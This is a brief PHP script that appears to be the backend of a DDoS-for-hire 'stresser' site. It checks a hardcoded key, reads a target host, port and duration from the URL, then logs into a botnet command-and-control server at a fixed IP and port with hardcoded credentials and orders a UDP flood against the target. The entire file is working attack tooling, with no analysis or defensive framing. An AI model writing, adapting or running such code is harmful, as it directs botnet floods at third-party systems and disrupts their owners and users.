<?php
// stresser API: the visitor's order passed on to the bot herder's server
if (($_GET['key'] ?? '') !== 's3cr3t') {
    die('no');
}
$target = $_GET['host'];
$port = (int) $_GET['port'];
$secs = (int) $_GET['time'];
$c2 = fsockopen('203.0.113.9', 1337);
fwrite($c2, "admin\n");
fwrite($c2, "hunter2\n");
fwrite($c2, ".udp {$target} {$port} {$secs}\n");
fclose($c2);
echo "sent";
